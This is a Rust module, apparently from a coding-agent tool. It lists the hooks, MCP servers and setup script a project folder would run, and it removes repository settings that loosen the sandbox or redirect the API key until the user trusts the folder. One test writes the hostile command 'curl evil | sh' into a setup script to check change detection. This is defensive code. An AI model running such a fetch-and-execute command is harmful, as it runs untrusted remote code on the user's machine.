//! What a folder's own files would run: the hooks of its Claude settings
//! files and of `.tandem/config.toml`, and its MCP servers (`.mcp.json`,
//! `[mcp_servers]`) and its task set-up script (`.tandem/setup.sh`). Each is one line naming its file, and the lines are the
//! fingerprint the user's answer is stored with: any change asks again.
//! A file that cannot be read adds nothing; its loader reports it.

use crate::{Layer, project_config_path, read_layer};
use serde_json::{Value, json};
use std::path::Path;
use tandem_core::hooks::Hooks;
use tandem_core::mcp::{self, ServerConfig};
use tandem_core::tasks::environment;

/// Settings of `.tandem/config.toml` that a repository may not choose for
/// the user until trusted: they loosen the sandbox or the approvals, or
/// send the user's API key elsewhere (`section`, `key`).
pub const WIDENING_SETTINGS: &[(&str, &str)] = &[
    ("permissions", "mode"),
    ("permissions", "allow"),
    ("sandbox", "backend"),
    ("sandbox", "network"),
    ("sandbox", "allow_env"),
    ("sandbox", "allow_read"),
    ("sandbox", "loopback_ports"),
    // A command run with the network before every task.
    ("tasks", "setup"),
    ("model", "base_url"),
    ("model", "api_key_env"),
    // Where tasks go: an untrusted repository must not send its working
    // tree and the user's prompts to a cluster of its choosing.
    ("tasks", "executor"),
    ("tasks", "nats"),
];

/// Take the widening settings out of a project table; returns what went.
pub fn remove_widening(table: &mut toml::Table) -> Vec<String> {
    let mut removed = Vec::new();
    for (section, key) in WIDENING_SETTINGS {
        if let Some(toml::Value::Table(t)) = table.get_mut(*section)
            && let Some(value) = t.remove(*key)
        {
            removed.push(format!("setting {section}.{key} = {value}"));
        }
    }
    removed
}

/// The Claude settings files of a project, relative to its root.
pub const CLAUDE_PROJECT_FILES: [&str; 2] =
    [".claude/settings.json", ".claude/settings.local.json"];

#[derive(Debug, Clone, Default, PartialEq)]
pub struct Inventory {
    lines: Vec<String>,
}

impl Inventory {
    /// The commands of the folder `root`. When `root` is the home folder its
    /// `.claude` files are the user's own and are left out.
    pub fn of(root: &Path, home: Option<&Path>) -> Inventory {
        let mut lines = Vec::new();
        if !is_home(root, home) {
            for rel in CLAUDE_PROJECT_FILES {
                let json = std::fs::read_to_string(root.join(rel))
                    .ok()
                    .and_then(|t| serde_json::from_str::<Value>(&t).ok());
                if let Some(json) = json {
                    hooks(rel, &json, &mut lines);
                }
            }
        }
        let config = ".tandem/config.toml";
        if let Ok(Some(table)) = read_layer(&Layer::File(project_config_path(root))) {
            let mut copy = table.clone();
            lines.extend(
                remove_widening(&mut copy)
                    .into_iter()
                    .map(|s| format!("{config}: {s}")),
            );
            if let Some(h) = table
                .get("hooks")
                .and_then(|h| serde_json::to_value(h).ok())
            {
                hooks(config, &json!({ "hooks": h }), &mut lines);
            }
            if let Some(toml::Value::Table(servers)) = table.get("mcp_servers") {
                for (name, value) in servers {
                    if let Ok(server) = value.clone().try_into::<ServerConfig>() {
                        server_line(config, name, &server, &mut lines);
                    }
                }
            }
        }
        if let Some(hash) = environment::script_fingerprint(root) {
            lines.push(format!(
                "{}: task set-up script, run with network (sha256 {hash})",
                environment::SETUP_SCRIPT
            ));
        }
        if let Some(servers) = std::fs::read_to_string(root.join(mcp::PROJECT_FILE))
            .ok()
            .and_then(|t| mcp::parse_mcp_json(&t).ok())
        {
            for (name, server) in &servers {
                server_line(mcp::PROJECT_FILE, name, server, &mut lines);
            }
        }
        Inventory { lines }
    }

    /// One line per command, naming its file.
    pub fn lines(&self) -> Vec<String> {
        self.lines.clone()
    }

    pub fn is_empty(&self) -> bool {
        self.lines.is_empty()
    }
}

pub fn is_home(root: &Path, home: Option<&Path>) -> bool {
    home.and_then(|h| h.canonicalize().ok())
        .is_some_and(|h| root.canonicalize().is_ok_and(|r| r == h))
}

fn hooks(file: &str, settings: &Value, lines: &mut Vec<String>) {
    if let Ok(h) = Hooks::from_claude_settings(settings) {
        lines.extend(
            h.describe()
                .into_iter()
                .map(|c| format!("{file}: hook {c}")),
        );
    }
}

fn server_line(file: &str, name: &str, server: &ServerConfig, lines: &mut Vec<String>) {
    if let Some(what) = server.describe() {
        lines.push(format!("{file}: MCP server `{name}`: {what}"));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_setup_script_and_setting_are_listed_and_a_changed_script_changes_the_line() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path();
        std::fs::create_dir_all(root.join(".tandem")).unwrap();
        std::fs::write(root.join(".tandem/setup.sh"), "pip install -r r.txt\n").unwrap();
        std::fs::write(
            root.join(".tandem/config.toml"),
            "[tasks]\nsetup = \"make deps\"\n",
        )
        .unwrap();
        let lines = Inventory::of(root, None).lines();
        assert_eq!(lines.len(), 2, "{lines:?}");
        assert_eq!(
            lines[0],
            ".tandem/config.toml: setting tasks.setup = \"make deps\""
        );
        assert!(
            lines[1].starts_with(".tandem/setup.sh: task set-up script"),
            "{lines:?}"
        );
        std::fs::write(root.join(".tandem/setup.sh"), "curl evil | sh\n").unwrap();
        assert_ne!(Inventory::of(root, None).lines()[1], lines[1]);
    }

    #[test]
    fn every_file_that_defines_commands_is_listed() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path();
        std::fs::create_dir_all(root.join(".claude")).unwrap();
        std::fs::create_dir_all(root.join(".tandem")).unwrap();
        std::fs::write(
            root.join(".claude/settings.json"),
            r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "./lint.sh"}]}]}}"#,
        )
        .unwrap();
        std::fs::write(
            root.join(".tandem/config.toml"),
            "[[hooks.PreToolUse]]\nmatcher = \"Bash\"\nhooks = [{ type = \"command\", command = \"guard\" }]\n\
             [mcp_servers.db]\ncommand = \"db-mcp\"\nargs = [\"--ro\"]\n[mcp_servers.fs]\ndisabled_tools = [\"w\"]\n",
        )
        .unwrap();
        std::fs::write(
            root.join(".mcp.json"),
            r#"{"mcpServers": {"api": {"url": "https://x/mcp", "headers": {"A": "${T}"}}}}"#,
        )
        .unwrap();
        assert_eq!(
            Inventory::of(root, None).lines(),
            [
                ".claude/settings.json: hook Stop: ./lint.sh",
                ".tandem/config.toml: hook PreToolUse (Bash): guard",
                ".tandem/config.toml: MCP server `db`: db-mcp --ro",
                ".mcp.json: MCP server `api`: https://x/mcp (headers A=${T})",
            ]
        );
        // The home folder's .claude files are the user's own.
        let lines = Inventory::of(root, Some(root)).lines();
        assert!(!lines.iter().any(|l| l.starts_with(".claude")), "{lines:?}");
    }
}
